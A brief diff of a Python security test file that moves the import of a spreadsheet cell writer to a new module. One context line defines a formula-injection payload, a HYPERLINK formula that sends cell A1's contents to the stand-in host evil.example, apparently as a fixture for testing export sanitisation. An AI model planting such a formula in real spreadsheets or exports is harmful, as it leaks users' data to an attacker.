@@ -13,13 +13,13 @@ from sqlalchemy.orm import Session
 from tests.security.import_paths import csv_bytes
 from tongban.assessment import importers
 from tongban.assessment import service as assessment
+from tongban.core.export import write_cell
 from tongban.core.security import SYSTEM_ACTOR
 from tongban.org import service as org_service
 from tongban.rectification import service as rectification
 from tongban.rectification.enums import TaskSource
 from tongban.reports import service as reports
 from tongban.reports.enums import ReportFormat, ReportKind
-from tongban.reports.excel import write_cell
 from tongban.reports.service import ReportRequest
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
